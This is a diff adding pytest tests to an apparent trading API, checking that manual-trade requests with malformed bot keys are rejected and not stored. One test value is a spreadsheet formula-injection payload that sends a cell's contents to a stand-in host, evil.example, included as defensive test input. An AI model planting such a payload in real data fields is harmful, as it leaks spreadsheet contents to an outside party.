@@ -120,3 +120,27 @@ def test_trades_show_realised_and_unrealised_pnl_apart(client: TestClient) -> No
     assert tsla["total_pnl"] == 0 and tsla["unrealised_pnl"] == -10 and tsla["last_price"] == 190
     assert tsla["bots"]["w2"]["unrealised_pnl"] == -10 and tsla["bots"]["w2"]["open_seconds"] >= 0
     assert summary["tickers"]["AAPL"]["unrealised_pnl"] == 0
+
+
+@pytest.mark.parametrize("path", ["/manual_trade", "/api/v1/manual_trade"])
+@pytest.mark.parametrize("direction", ["buy", "up"])
+@pytest.mark.parametrize(
+    "bot",
+    ['=HYPERLINK("http://evil.example/?x="&B2,"open")', "a/b", "two\nlines", "", "-x", "b" * 65],
+)
+def test_manual_trade_refuses_a_bot_key_outside_the_pattern_naming_the_field(
+    client: TestClient, path: str, direction: str, bot: str
+) -> None:
+    response = client.post(
+        path, json={"ticker": "AAPL", "price": 10, "direction": direction, "bot": bot}
+    )
+    assert response.status_code == 422, response.text
+    assert any(error["loc"][-1] == "bot" for error in response.json()["detail"])
+    assert client.get("/trades").json()["all_trades"] == []
+    assert client.get("/bots").json() == []
+
+
+def test_manual_trade_takes_a_bot_key_every_route_takes(client: TestClient) -> None:
+    trade = manual(client, ticker="AAPL", price=10, direction="buy", bot="desk-1:a.b_c")
+    assert trade["bot"] == "desk-1:a.b_c"
+    assert client.delete("/api/v1/bots/desk-1:a.b_c").status_code == 200
